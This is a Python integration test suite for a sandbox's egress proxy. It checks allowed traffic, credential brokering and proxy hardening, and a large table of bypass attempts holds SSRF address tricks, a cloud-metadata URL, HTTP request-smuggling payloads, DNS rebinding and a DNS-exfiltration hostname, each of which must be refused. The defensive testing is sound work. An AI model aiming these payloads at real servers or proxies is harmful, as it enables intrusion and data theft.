"""11. Egress through the sidecar's proxy (DESIGN.md §6b, docs/PROTOCOL.md "Egress"), on a topology
the tests make (tests/integration/egress_topology.py): boxkited in a network namespace of its
own, a far side on a documentation range with web servers, a git server, a pip index, a DNS
server and recorders that a refused attempt must never reach.

  Allowed   HTTP, HTTPS through CONNECT, pip download and git clone honouring the proxy
            variables, a brokered credential the upstream sees and the command cannot find,
            normalized names, wildcards, an address the ceiling opens, IPv6.
  Bypasses  every attempt of the table below is refused — its answer, its audit line — and no
            recorder (and no web server) saw it: a barrier connection to each recorder, logged
            after whatever the listener accepted before, proves it.
  The rest  the grant's checks before anything runs, the proxy's process (no capability, no key,
            its own filter), bounds, the tunnel ending with its exec, a proxy that dies.
"""
import hashlib
import json
import os
import re
import signal
import subprocess
import time
import unittest
from pathlib import Path

import bkit
import egress_topology as topo

T = None
HTTP_PORT = None
CLIENT = "/workspace/egress_client.py"


def setUpModule():
    global T, HTTP_PORT
    bkit.require_root()
    bkit.require_build()
    if not (bkit.BUILD / "boxkite-egress").exists():
        raise unittest.SkipTest(f"{bkit.BUILD}/boxkite-egress is not built")
    HTTP_PORT = 7780
    T = topo.Topology(daemon_args=["--http-listen", f"http://127.0.0.1:{HTTP_PORT}"]).start()


def client(grant, attempts, timeout=90):
    """Run egress_client.py in an exec granted `grant`: its answers, one per attempt."""
    args = []
    for g in grant:
        args += ["--allow-net", g]
    rc, obj, err = T.daemon.exec_json(*args, "--", "/usr/bin/python3", CLIENT, json.dumps(attempts),
                                      timeout=timeout)
    if obj is None or rc != 0:
        raise AssertionError(f"the client exec failed: {rc} {obj} {err}")
    return [json.loads(line) for line in obj["stdout"].splitlines() if line.strip()]


def sh(grant, script, timeout=120):
    """bkctl exec --allow-net ... -- /bin/sh -c script: (exit status, stdout, stderr)."""
    args = []
    for g in grant:
        args += ["--allow-net", g]
    rc, obj, err = T.daemon.exec_json(*args, "--shell", script, timeout=timeout)
    if obj is None:
        return rc, "", err
    return obj.get("exit_code"), obj.get("stdout", ""), obj.get("stderr", "") + err


def py(grant, script, timeout=120):
    """A Python script, written to the workspace, run in an exec granted `grant`."""
    name = f"script-{os.urandom(4).hex()}.py"
    (T.daemon.workspace / name).write_text(script)
    return sh(grant, f"/usr/bin/python3 /workspace/{name}", timeout=timeout)


def raw(send, **kw):
    return {"kind": "raw", "send": send, **kw}


def get(url, headers="", method="GET"):
    return raw(f"{method} {url} HTTP/1.1\r\n{headers}Connection: close\r\n\r\n")


def connect(hostport, then=None, headers=""):
    a = raw(f"CONNECT {hostport} HTTP/1.1\r\nHost: {hostport}\r\n{headers}\r\n")
    if then is not None:
        a["then"] = then
    return a


def far_requests(since):
    return [e for e in T.far_log.events()[since:] if e["ev"] == "request"]


class Reached:
    """What the far side and the sidecar's recorders saw from `start` on."""

    def __init__(self):
        self.far = len(T.far_log.events())
        self.sc = len(T.sc_log.events())

    def strangers(self):
        """Connections any recorder accepted that were not a barrier's, and every web request."""
        far_barrier, sc_barrier = T.far_log.barrier(), T.sc_log.barrier()
        out = []
        for log, mark, barrier in ((T.far_log, self.far, far_barrier), (T.sc_log, self.sc, sc_barrier)):
            names = {n for n, _, _ in log.forbidden}
            for e in log.events()[mark:]:
                if e["ev"] == "accept" and e["l"] in names and e["conn"] not in barrier:
                    out.append(e)
                elif e["ev"] == "request" and not e["path"].startswith("/barrier"):
                    out.append(e)
        return out


# --- the bypass suite ---------------------------------------------------------------------------

G80 = ["pkg.example:80"]
G443 = ["pkg.example:443"]
ANY80 = ["*:80"]
WILD = ["*.granted.example:80"]
BIG = "X-Big: " + "a" * 9000 + "\r\n"
MANY = "".join(f"X-{i}: v\r\n" for i in range(101))
HELLO = ("\x16\x03\x01\x00\x2f\x01\x00\x00\x2b\x03\x03" + "A" * 32 + "\x00\x00\x02\x13\x01\x01\x00")

# name: (grant, attempt, answer status, a word of the audit line's reason)
BYPASSES = {
    "other_port": (G80, get("http://pkg.example:8080/"), 403, "not granted"),
    "other_host": (G80, get("http://other.example/"), 403, "not granted"),
    "other_host_by_address": (G80, get("http://192.0.2.11/"), 403, "not granted"),
    "granted_name_by_address": (G80, get("http://192.0.2.10/"), 403, "not granted"),
    "connect_other_port": (G80, connect("pkg.example:8080"), 403, "not granted"),
    "connect_other_host": (G443, connect("other.example:443"), 403, "not granted"),
    "wildcard_domain_itself": (WILD, get("http://granted.example/"), 403, "not granted"),
    "wildcard_glued_suffix": (WILD, get("http://evilgranted.example/"), 403, "not granted"),
    "wildcard_as_prefix": (WILD, get("http://granted.example.other.example/"), 403, "not granted"),
    "loopback_decimal": (ANY80, get("http://2130706433/"), 403, "loopback"),
    "loopback_octal": (ANY80, get("http://0177.0.0.1/"), 403, "loopback"),
    "loopback_hex": (ANY80, get("http://0x7f.0.0.1/"), 403, "loopback"),
    "loopback_short": (ANY80, get("http://127.1/"), 403, "loopback"),
    "loopback_trailing_dot": (ANY80, get("http://127.0.0.1./"), 403, "loopback"),
    "loopback_other_address": (ANY80, get("http://127.0.0.53/"), 403, "loopback"),
    "loopback_v6": (ANY80, get("http://[::1]/"), 403, "loopback"),
    "loopback_v4_mapped": (ANY80, get("http://[::ffff:127.0.0.1]/"), 403, "loopback"),
    "loopback_v4_mapped_hex": (ANY80, get("http://[::ffff:7f00:1]/"), 403, "loopback"),
    "loopback_v4_compatible": (ANY80, get("http://[::127.0.0.1]/"), 403, "reserved"),
    "loopback_nat64": (ANY80, get("http://[64:ff9b::7f00:1]/"), 403, "translated"),
    "loopback_6to4": (ANY80, get("http://[2002:7f00:1::1]/"), 403, "translated"),
    "loopback_connect": (ANY80, connect("127.0.0.1:80"), 403, "loopback"),
    "unspecified": (ANY80, get("http://0.0.0.0/"), 403, "unspecified"),
    "unspecified_short": (ANY80, get("http://0/"), 403, "unspecified"),
    "unspecified_v6": (ANY80, get("http://[::]/"), 403, "unspecified"),
    "metadata": (ANY80, get("http://169.254.169.254/latest/meta-data/"), 403, "link-local"),
    "metadata_decimal": (ANY80, get("http://2852039166/"), 403, "link-local"),
    "metadata_v4_mapped": (ANY80, get("http://[::ffff:a9fe:a9fe]/"), 403, "link-local"),
    "link_local_v6": (ANY80, get("http://[fe80::1]/"), 403, "link-local"),
    "zone_id": (ANY80, get("http://[fe80::1%25vsc]/"), 400, "IPv6"),
    "private": (ANY80, get("http://10.8.8.8/"), 403, "private"),
    "private_v4_mapped": (ANY80, get("http://[::ffff:10.8.8.8]/"), 403, "private"),
    "sidecar_own_address": (ANY80, get("http://192.0.2.1/"), 403, "sidecar's own"),
    "sidecar_own_v4_mapped": (ANY80, get("http://[::ffff:192.0.2.1]/"), 403, "sidecar's own"),
    "multicast": (ANY80, get("http://224.0.0.1/"), 403, "multicast"),
    "name_to_loopback": (ANY80, get("http://loop.example/"), 403, "loopback"),
    "name_to_loopback_v6": (ANY80, get("http://loop6.example/"), 403, "loopback"),
    "name_to_metadata": (ANY80, get("http://meta.example/"), 403, "link-local"),
    "name_to_private": (ANY80, get("http://priv.example/"), 403, "private"),
    "name_to_sidecar": (ANY80, get("http://self.example/"), 403, "sidecar's own"),
    "name_to_unspecified": (ANY80, get("http://zero.example/"), 403, "unspecified"),
    "name_to_multicast": (ANY80, get("http://mc.example/"), 403, "multicast"),
    "absolute_host_header_mismatch": (G80, get("http://pkg.example/", "Host: other.example\r\n"), 400, "Host"),
    "absolute_host_header_port": (G80, get("http://pkg.example/", "Host: pkg.example:8080\r\n"), 400, "Host"),
    "absolute_other_under_granted_host": (G80, get("http://other.example/", "Host: pkg.example\r\n"), 400,
                                          "Host"),
    "two_host_headers": (G80, get("http://pkg.example/", "Host: pkg.example\r\nHost: other.example\r\n"), 400,
                         "two Host"),
    "userinfo_absolute": (G80, get("http://pkg.example@other.example/"), 400, "userinfo"),
    "userinfo_connect": (G80, connect("user@pkg.example:80"), 400, "userinfo"),
    "percent_encoded_host": (ANY80, get("http://%6fther.example/"), 400, "letters"),
    "numeric_last_label": (ANY80, get("http://pkg.example.1/"), 400, "number"),
    "smuggle_cl_te": (G80, raw("POST http://pkg.example/ HTTP/1.1\r\nContent-Length: 4\r\n"
                                "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"), 400, "both"),
    "smuggle_te_cl": (G80, raw("POST http://pkg.example/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n"
                                "Content-Length: 4\r\n\r\n0\r\n\r\n"), 400, "both"),
    "smuggle_two_lengths": (G80, raw("POST http://pkg.example/ HTTP/1.1\r\nContent-Length: 4\r\n"
                                      "Content-Length: 40\r\n\r\nabcd"), 400, "two Content-Length"),
    "smuggle_length_list": (G80, raw("POST http://pkg.example/ HTTP/1.1\r\nContent-Length: 4, 4\r\n\r\nabcd"),
                            400, "decimal"),
    "smuggle_te_list": (G80, raw("POST http://pkg.example/ HTTP/1.1\r\nTransfer-Encoding: chunked, identity\r\n"
                                  "\r\n0\r\n\r\n"), 501, "chunked"),
    "smuggle_space_before_colon": (G80, raw("POST http://pkg.example/ HTTP/1.1\r\nTransfer-Encoding : chunked\r\n"
                                             "\r\n0\r\n\r\n"), 400, "colon"),
    "smuggle_bare_lf": (G80, raw("GET http://pkg.example/ HTTP/1.1\nHost: pkg.example\n\n"), 400, "bare"),
    "smuggle_folded_header": (G80, raw("GET http://pkg.example/ HTTP/1.1\r\nX-A: a\r\n Host: other.example\r\n\r\n"),
                              400, "folded"),
    "http2_preface": (G80, raw("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), 505, "HTTP/2"),
    "http2_version": (G80, raw("GET http://pkg.example/ HTTP/2.0\r\n\r\n"), 505, "HTTP/2"),
    "h2c_upgrade": (G80, get("http://pkg.example/", "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"), 400,
                    "Upgrade"),
    "websocket_upgrade": (G80, get("http://pkg.example/", "Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
                                   "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"), 400, "Upgrade"),
    "oversized_head": (G80, get("http://pkg.example/", BIG), 431, "larger than the limit"),
    "too_many_headers": (G80, get("http://pkg.example/", MANY), 431, "100"),
    "slow_client": (G80, raw("GET http://pkg.example/ HTTP/1.1\r\nHost: pkg.example\r\nX-Slow: " + "s" * 60 +
                             "\r\n\r\n", pace_ms=60, timeout=10), 408, "in time"),
    "garbage": (G80, raw("\x00\x01\x02garbage\r\n\r\n"), 400, "not an HTTP request"),
    "tls_to_the_proxy": (G80, raw(HELLO), 400, "not an HTTP request"),
    "https_absolute": (G443, get("https://pkg.example/"), 400, "CONNECT"),
    "origin_form": (G80, raw("GET / HTTP/1.1\r\nHost: pkg.example\r\n\r\n"), 400, "not a proxy request"),
    "connect_with_body": (G80, connect("pkg.example:80", headers="Content-Length: 5\r\n"), 400, "body"),
    "dns_exfiltration_name": (G80, get("http://c2VjcmV0.exfil.example/"), 403, "not granted"),
    # Inside a tunnel to a granted name, nothing may name another host.
    "tunnel_other_host_header": (G80, connect("pkg.example:80", then="GET / HTTP/1.1\r\nHost: other.example\r\n\r\n"),
                                 200, "another host"),
    "tunnel_absolute_other": (G80, connect("pkg.example:80", then="GET http://other.example/ HTTP/1.1\r\n"
                                                                "Host: other.example\r\n\r\n"), 200, "another host"),
    "tunnel_relayed_connect": (G80, connect("pkg.example:80", then="CONNECT other.example:80 HTTP/1.1\r\n"
                                                                 "Host: other.example:80\r\n\r\n"), 200, "another host"),
    "tunnel_malformed_http": (G80, connect("pkg.example:80", then="GET / HTTP/1.1\r\nHost: other.example\n\r\n"),
                              200, "bare"),
    "tunnel_other_sni": (G443, {"kind": "tunnel-tls", "connect": "pkg.example:443", "sni": "other.example",
                                "request": "GET / HTTP/1.1\r\nHost: other.example\r\n\r\n"}, 200, "server name"),
}


def _bypass_test(name, grant, attempt, status, reason):
    def test(self):
        since = T.log_offset()
        seen = Reached()
        [r] = client(grant, [attempt])
        if status is not None:
            self.assertEqual(r.get("status"), status, f"{name}: {r}")
        audits = T.audit(since)
        refused = [a for a in audits if a["egress"] == "refused"]
        self.assertTrue(refused, f"{name}: no refusal audited: {audits}")
        self.assertIn(reason, refused[0].get("reason", ""), f"{name}: {refused[0]}")
        self.assertGreater(refused[0]["exec"], 0, refused[0])
        self.assertEqual(refused[0]["key"], T.daemon.key_id, refused[0])
        self.assertEqual(seen.strangers(), [], f"{name}: the attempt reached something")
    test.__doc__ = f"bypass: {name}"
    return test


class Bypass(unittest.TestCase):
    """Each attempt refused, audited, and seen by nothing on the far side or the sidecar's."""


for _name, (_grant, _attempt, _status, _reason) in BYPASSES.items():
    setattr(Bypass, f"test_{_name}", _bypass_test(_name, _grant, _attempt, _status, _reason))


class BypassMore(unittest.TestCase):
    """Attempts that need more than one connection or one exec."""

    def test_rebinding(self):
        # rebind.example answers 192.0.2.10 and 127.0.0.1 in turn: whichever the proxy got, it
        # dialled what it checked, and the sidecar's loopback never saw a connection.
        seen = Reached()
        since = T.log_offset()
        answers = client(["rebind.example:8000"], [get("http://rebind.example:8000/echo/rb")] * 4)
        statuses = sorted(a.get("status") for a in answers)
        self.assertIn(403, statuses, answers)
        self.assertIn(200, statuses, answers)
        audits = T.audit(since, n=4)
        self.assertTrue(any("loopback" in (a.get("reason") or "") for a in audits), audits)
        for a in audits:
            if a["egress"] == "allowed":
                self.assertEqual(a["addr"], "192.0.2.10:8000", a)
        reached = seen.strangers()
        self.assertTrue(all(e["ev"] == "request" and e["l"] == "rebind" for e in reached), reached)
        self.assertEqual(len(reached), statuses.count(200), reached)

    def test_pipelined_request_for_another_host(self):
        seen = Reached()
        [r] = client(G80, [raw("GET http://pkg.example/echo/pipe1 HTTP/1.1\r\n\r\n"
                               "GET http://other.example/echo/pipe2 HTTP/1.1\r\n\r\n")])
        self.assertEqual(r["status"], 200, r)
        reached = seen.strangers()
        self.assertEqual([(e["l"], e["path"]) for e in reached], [("pkg", "/echo/pipe1")], reached)

    def test_request_smuggled_after_a_chunked_body(self):
        seen = Reached()
        [r] = client(G80, [raw("POST http://pkg.example/echo/chunked HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
                               "5\r\nhello\r\n0\r\n\r\nGET http://other.example/ HTTP/1.1\r\n\r\n")])
        self.assertEqual(r["status"], 200, r)
        reached = seen.strangers()
        self.assertEqual([(e["l"], e["method"]) for e in reached], [("pkg", "POST")], reached)

    def test_request_smuggled_in_a_malformed_chunk(self):
        # The head is fine (and forwarded); the body's framing is not: the relay stops there, and
        # what follows — a request for another host — goes nowhere.
        seen = Reached()
        since = T.log_offset()
        client(G80, [raw("POST http://pkg.example/echo/badchunk HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
                         "zz\r\nGET http://other.example/ HTTP/1.1\r\n\r\n")])
        [a] = T.audit(since)
        self.assertIn("not hexadecimal", a.get("reason", ""), a)
        reached = seen.strangers()
        self.assertEqual([(e["l"], e["path"]) for e in reached], [("pkg", "/echo/badchunk")], reached)

    def test_dns_exfiltration_reaches_no_resolver(self):
        # Neither through the proxy (a name not granted is never resolved) nor around it.
        before = len([e for e in T.far_log.events() if e["ev"] == "query"])
        answers = client(G80, [get("http://exfil-data.exfil.example/"),
                               {"kind": "direct", "host": "192.0.2.53", "port": 53, "udp": True}])
        self.assertEqual(answers[0]["status"], 403, answers)
        self.assertIn(answers[1]["errno"], ("ENETUNREACH", "EHOSTUNREACH"), answers)
        T.far_log.barrier()
        queries = [e for e in T.far_log.events() if e["ev"] == "query"][before:]
        self.assertEqual(queries, [])

    def test_no_route_around_the_proxy(self):
        seen = Reached()
        answers = client(G80, [{"kind": "direct", "host": "192.0.2.10", "port": 80},
                               {"kind": "direct", "host": "192.0.2.11", "port": 80},
                               {"kind": "direct", "host": "2001:db8::10", "port": 80},
                               {"kind": "direct", "host": "169.254.169.254", "port": 80},
                               {"kind": "direct", "host": "192.0.2.11", "port": 443, "udp": True}])
        for a in answers:
            self.assertIn(a["errno"], ("ENETUNREACH", "EHOSTUNREACH"), answers)
        self.assertEqual(seen.strangers(), [])

    def test_no_grant_no_proxy(self):
        # An exec granted nothing has no listener on the proxy's port: nothing to talk to.
        [r] = client([], [{"kind": "connect-only", "port": 3128}])
        self.assertEqual(r["errno"], "ECONNREFUSED", r)
        rc, out, err = sh([], "env | grep -ci proxy; exit 0")
        self.assertEqual(out.strip(), "0", out)

    def test_another_execs_proxy(self):
        # A background process granted pkg.example holds its proxy; another exec granted only
        # *.granted.example cannot use that grant: its loopback's proxy is its own.
        r = T.daemon.bkctl("start", "--allow-net", "pkg.example:80", "--", "sleep", "30")
        self.assertEqual(r.returncode, 0, r)
        pid = r.stdout.strip()
        try:
            seen = Reached()
            [a] = client(WILD, [get("http://pkg.example/echo/other-exec")])
            self.assertEqual(a["status"], 403, a)
            self.assertEqual(seen.strangers(), [])
        finally:
            T.daemon.bkctl("kill", pid)

    def test_grant_beyond_the_ceiling_runs_nothing(self):
        for grant in ("other.example:443", "*:443", "pkg.example:*", "10.0.0.0/8:443", "*.example:443"):
            marker = T.daemon.workspace / "ran"
            r = T.daemon.bkctl("exec", "--allow-net", grant, "--", "touch", "/workspace/ran")
            self.assertEqual(r.returncode, bkit.EXIT_FAILED, r)
            self.assertIn("PERMISSION_DENIED", r.stderr, r)
            self.assertFalse(marker.exists(), grant)
        r = T.daemon.bkctl("start", "--allow-net", "other.example:443", "--", "touch", "/workspace/ran")
        self.assertNotEqual(r.returncode, 0, r)
        self.assertIn("PERMISSION_DENIED", r.stderr, r)
        self.assertFalse((T.daemon.workspace / "ran").exists())

    def test_malformed_grant(self):
        for grant in ("pkg.example", "pkg.example:0", "*.*.example:80", "[::1:80", "a b:80"):
            r = T.daemon.bkctl("exec", "--allow-net", grant, "--", "true")
            self.assertEqual(r.returncode, bkit.EXIT_FAILED, (grant, r))
            self.assertIn("INVALID_ARGUMENT", r.stderr, (grant, r))

    def test_grant_with_an_exposed_port(self):
        r = T.daemon.bkctl("start", "--expose", "8000", "--allow-net", "pkg.example:80", "--", "true")
        self.assertNotEqual(r.returncode, 0, r)
        self.assertIn("INVALID_ARGUMENT", r.stderr, r)

    def test_too_many_connections_at_once(self):
        # --egress-connections 4: a fifth is answered 503 at once, audited, and dialled nowhere.
        script = ("import socket\n"
                  "ss = [socket.create_connection(('127.0.0.1', 3128)) for _ in range(4)]\n"
                  "for s in ss:\n"
                  "    s.sendall(b'CONNECT hold.example:80 HTTP/1.1\\r\\n\\r\\n')\n"
                  "    s.recv(100)\n"
                  "x = socket.create_connection(('127.0.0.1', 3128))\n"
                  "x.settimeout(5)\n"
                  "print(x.recv(200).split(b'\\r\\n')[0].decode())\n")
        since = T.log_offset()
        rc, out, err = py(["hold.example:80"], script)
        self.assertEqual(rc, 0, err)
        self.assertEqual(out.strip(), "HTTP/1.1 503 Service Unavailable", out)
        audits = T.audit(since, n=5)
        self.assertTrue(any("too many" in (a.get("reason") or "") for a in audits), audits)


# --- allowed --------------------------------------------------------------------------------------

class Allowed(unittest.TestCase):
    def test_http_through_the_proxy_variables(self):
        since = T.log_offset()
        rc, out, err = sh(G80, "curl -sS http://pkg.example/echo/curl-http")
        self.assertEqual((rc, out), (0, "pkg ok /echo/curl-http\n"), err)
        [a] = T.audit(since)
        self.assertEqual((a["egress"], a["method"], a["asked"], a["addr"]),
                         ("allowed", "GET", "pkg.example:80", "192.0.2.10:80"), a)
        self.assertGreater(a["bytes_up"], 0)
        self.assertGreater(a["bytes_down"], 0)

    def test_https_through_connect(self):
        since = T.log_offset()
        rc, out, err = sh(G443, "curl -sS https://pkg.example/echo/curl-https")
        self.assertEqual((rc, out), (0, "pkgs ok /echo/curl-https\n"), err)
        [a] = T.audit(since)
        self.assertEqual((a["egress"], a["method"], a["asked"], a["brokered"]),
                         ("allowed", "CONNECT", "pkg.example:443", False), a)

    def test_a_large_answer_arrives_whole_at_any_pace(self):
        # 6 MiB through each path the answer takes (spliced in a forwarded request and in a
        # tunnel, through the proxy's buffers when it terminates TLS), once at full speed and once
        # read slower than it comes (the proxy waits on the command's socket), checked byte for byte.
        n = 6 << 20
        want = hashlib.sha256(bytes(n)).hexdigest()
        for grant, url in ((G80, "http://pkg.example"), (G443, "https://pkg.example"),
                           (["api.example:443"], "https://api.example")):
            for rate in ("", "--limit-rate 3M"):
                with self.subTest(url=url, rate=rate):
                    since = T.log_offset()
                    rc, out, err = sh(grant, f"curl -sS {rate} {url}/bytes/{n} | sha256sum", timeout=180)
                    self.assertEqual((rc, out.split()[:1]), (0, [want]), err)
                    [a] = T.audit(since)
                    self.assertEqual(a["egress"], "allowed", a)
                    self.assertGreaterEqual(a["bytes_down"], n, a)

    def test_pip_download(self):
        for scheme, grant in (("http", G80), ("https", G443)):
            rc, out, err = sh(grant, "/usr/bin/python3 -m pip download --no-cache-dir --disable-pip-version-check "
                                     f"-q --index-url {scheme}://pkg.example/simple/ --trusted-host pkg.example "
                                     f"-d /tmp/dl-{scheme} egressdemo "
                                     f"&& ls /tmp/dl-{scheme}")
            self.assertEqual(rc, 0, f"{scheme}: {out} {err}")
            self.assertEqual(out.strip(), "egressdemo-1.0-py3-none-any.whl", err)

    def test_pip_without_the_grant_has_no_network(self):
        rc, out, err = sh([], "/usr/bin/python3 -m pip download --no-cache-dir --disable-pip-version-check -q "
                              "--retries 0 --timeout 3 --index-url http://pkg.example/simple/ -d /tmp/none egressdemo")
        self.assertNotEqual(rc, 0, out)

    def test_git_clone(self):
        for scheme, grant in (("http", ["git.example:80"]), ("https", ["git.example:443"])):
            rc, out, err = sh(grant, f"rm -rf /tmp/c-{scheme} && git clone -q {scheme}://git.example/git/demo.git "
                                     f"/tmp/c-{scheme} && cat /tmp/c-{scheme}/README")
            self.assertEqual((rc, out), (0, "served through the egress proxy\n"), f"{scheme}: {err}")

    def test_normalized_grant_and_name(self):
        rc, out, err = sh(["PKG.Example.:80"], "curl -sS http://Pkg.Example./echo/norm")
        self.assertEqual((rc, out), (0, "pkg ok /echo/norm\n"), err)

    def test_wildcard(self):
        rc, out, err = sh(WILD, "curl -sS http://a.granted.example/echo/wild")
        self.assertEqual((rc, out), (0, "granted ok /echo/wild\n"), err)

    def test_private_address_the_ceiling_opens(self):
        # 10.9.9.0/24:80 is in the ceiling: the one private range a grant may reach here.
        rc, out, err = sh(["10.9.9.9:80"], "curl -sS --noproxy '' http://10.9.9.9/echo/opened")
        self.assertEqual((rc, out), (0, "opened ok /echo/opened\n"), err)
        rc, out, err = sh(["opened.example:80"], "curl -sS http://opened.example/echo/opened-name")
        self.assertEqual((rc, out), (0, "opened ok /echo/opened-name\n"), err)

    def test_ipv6(self):
        rc, out, err = sh(["[2001:db8::10]:80"], "curl -sS -g 'http://[2001:db8::10]/echo/v6'")
        self.assertEqual((rc, out), (0, "v6 ok /echo/v6\n"), err)
        rc, out, err = sh(["v6.example:80"], "curl -sS http://v6.example/echo/v6-name")
        self.assertEqual((rc, out), (0, "v6 ok /echo/v6-name\n"), err)

    def test_tunnel_with_the_granted_names_sni(self):
        ca = "/workspace/test-ca.crt"
        topo.shutil_copy(T.ca, T.daemon.workspace / "test-ca.crt")
        for sni in ("pkg.example", "PKG.Example"):
            [r] = client(G443, [{"kind": "tunnel-tls", "connect": "pkg.example:443", "sni": sni, "cafile": ca,
                                 "request": "GET /echo/sni HTTP/1.1\r\nHost: pkg.example\r\nConnection: close\r\n\r\n"}])
            self.assertEqual((r["status"], r.get("inner_status")), (200, 200), r)


class Credentials(unittest.TestCase):
    """The operator's credential reaches the destination; the command never holds it."""

    def test_brokered_and_never_seen(self):
        since = T.log_offset()
        mark = len(T.far_log.events())
        # The command even forges its own: the destination sees the operator's only.
        script = ("curl -sS -H 'Authorization: Bearer forged' -H 'authorization: Basic Zm9yZ2Vk' "
                  "https://api.example/echo/brokered; echo $SSL_CERT_FILE")
        rc, out, err = sh(["api.example:443"], script)
        self.assertEqual(rc, 0, err)
        self.assertEqual(out.splitlines()[0], "api ok /echo/brokered", out)
        self.assertEqual(out.splitlines()[1], "/run/boxkite/egress-ca.pem", out)
        reqs = [e for e in far_requests(mark) if e["l"] == "api"]
        self.assertEqual(len(reqs), 1, reqs)
        self.assertEqual(reqs[0]["auth"], [f"Bearer {T.secret}"], reqs[0])
        [a] = T.audit(since)
        self.assertEqual((a["egress"], a["brokered"], a["asked"]), ("allowed", True, "api.example:443"), a)
        self.assertNotIn(T.secret, json.dumps(a))

    def test_the_secret_is_nowhere_in_the_sandbox(self):
        # While a brokered request runs, and after: every process's environment and command
        # line, every file the sidecar could have written into (the rest is the host's read-only
        # /usr), the command's environment and what it got back. The secret comes on stdin, so
        # that no argv or environment of the probe holds it.
        finder = (
            "import os, subprocess, sys\n"
            "s = sys.stdin.buffer.read().strip()\n"
            "p = subprocess.Popen(['curl', '-sS', 'https://api.example/echo/find'], stdout=subprocess.PIPE)\n"
            "hits = []\n"
            "def scan():\n"
            "    for d in os.listdir('/proc'):\n"
            "        for f in ('environ', 'cmdline'):\n"
            "            try:\n"
            "                if s in open(f'/proc/{d}/{f}', 'rb').read(): hits.append(f'/proc/{d}/{f}')\n"
            "            except OSError: pass\n"
            "    for top in ('/run', '/tmp', '/workspace', '/home', '/etc', '/var', '/dev/shm'):\n"
            "        for root, dirs, files in os.walk(top):\n"
            "            for f in files:\n"
            "                try:\n"
            "                    if s in open(os.path.join(root, f), 'rb').read(): hits.append(os.path.join(root, f))\n"
            "                except OSError: pass\n"
            "    hits.extend(k for k, v in os.environb.items() if s in v)\n"
            "scan()\n"
            "out = p.communicate()[0]\n"
            "scan()\n"
            "if s in out: hits.append('the answer')\n"
            "print('hits', sorted(set(hits)), 'answer', out.decode().strip())\n")
        (T.daemon.workspace / "finder.py").write_text(finder)
        r = T.daemon.bkctl("-o", "json", "exec", "-i", "--allow-net", "api.example:443", "--",
                           "/usr/bin/python3", "/workspace/finder.py", input=T.secret, timeout=120)
        out = json.loads(r.stdout)
        self.assertEqual(out["exit_code"], 0, out)
        self.assertEqual(out["stdout"], "hits [] answer api ok /echo/find\n", out)

    def test_the_secret_is_in_no_log_or_counter(self):
        self.test_brokered_and_never_seen()
        self.assertNotIn(T.secret, T.daemon.log.read_text(errors="replace"))
        metrics = bkit.run(["curl", "-sS", f"http://127.0.0.1:{HTTP_PORT}/metrics"], netns=T.sc, check=True).stdout
        self.assertNotIn(T.secret, metrics)
        self.assertRegex(metrics, r"boxkite_egress_brokered_total [1-9]")

    def test_the_ca_is_constrained_to_the_brokered_destinations(self):
        r = bkit.run(["openssl", "x509", "-noout", "-text"], input=self._bundle_ca(), check=True)
        self.assertIn("X509v3 Name Constraints: critical", r.stdout, r.stdout)
        self.assertIn("DNS:api.example", r.stdout)
        self.assertIn("CA:TRUE, pathlen:0", r.stdout)

    def _bundle_ca(self):
        rc, out, err = sh(["api.example:443"], "cat /run/boxkite/egress-ca.pem; ls -l /run/boxkite; "
                                               "touch /run/boxkite/x 2>&1 || true")
        self.assertEqual(rc, 0, err)
        self.assertIn("Read-only file system", out)
        blocks = re.findall(r"-----BEGIN CERTIFICATE-----.*?-----END CERTIFICATE-----", out, re.S)
        return blocks[-1] + "\n"

    def test_no_bundle_without_a_brokered_grant(self):
        rc, out, err = sh(G443, "ls -A /run/boxkite; echo \"[$SSL_CERT_FILE]\"")
        self.assertEqual((rc, out), (0, "[]\n"), err)


# --- the proxy process ----------------------------------------------------------------------------

class ProxyProcess(unittest.TestCase):
    def test_no_capability_own_user_own_filter(self):
        pid = T.egress_pid()
        st = bkit.proc_status(pid)
        for f in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
            self.assertEqual(bkit.cap_mask(st, f), 0, f"{f}: {st[f]}")
        self.assertEqual(st["Uid"].split(), ["65533"] * 4)
        self.assertEqual(st["Gid"].split(), ["65533"] * 4)
        self.assertEqual(st["Groups"], "")
        self.assertEqual(st["NoNewPrivs"], "1")
        self.assertEqual(st["Seccomp"], "2")
        # Not dumpable: its /proc files are root's, so no process of another uid opens them.
        self.assertEqual(os.stat(f"/proc/{pid}/environ").st_uid, 0)
        self.assertEqual(Path(f"/proc/{pid}/environ").read_bytes(), b"")
        self.assertEqual(bkit.proc_cmdline(pid), ["boxkite-egress"])

    def test_holds_no_key(self):
        # The HMAC key in none of its readable memory (read as root, through /proc/PID/mem).
        pid = T.egress_pid()
        secret = bytes.fromhex(T.daemon.key_secret)
        # A control the same scan must find: a ceiling pattern, which the proxy was told.
        needles = {"key": (secret, T.daemon.key_secret.encode()), "control": (b"rebind.example",)}
        found = {k: [] for k in needles}
        maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
        # Under SAN=1 the proxy also maps AddressSanitizer's shadow (x86-64: 0x7fff8000 up to
        # 0x10007fff8000, terabytes, reserved): it holds the shadow's own bytes, no data of the
        # program's, and is skipped; everything else is read, a chunk at a time.
        asan = any("libasan" in line for line in maps)
        with open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                addr, perms = line.split()[:2]
                lo, hi = (int(x, 16) for x in addr.split("-"))
                if "r" not in perms or (asan and lo >= 0x7fff8000 and hi <= 0x10007fff8000):
                    continue
                tail = b""
                for at in range(lo, hi, 16 << 20):
                    try:
                        mem.seek(at)
                        chunk = tail + mem.read(min(16 << 20, hi - at))
                    except OSError:
                        break
                    for k, words in needles.items():
                        if any(w in chunk for w in words):
                            found[k].append(line.strip())
                    tail = chunk[-127:]
        self.assertEqual(found["key"], [])
        self.assertNotEqual(found["control"], [], "the scan does not see what the proxy holds")
        # Nor a descriptor of the key file, or of anything but its channel, stdio, sockets.
        for fd in os.listdir(f"/proc/{pid}/fd"):
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
            self.assertNotIn(str(T.daemon.key), target)


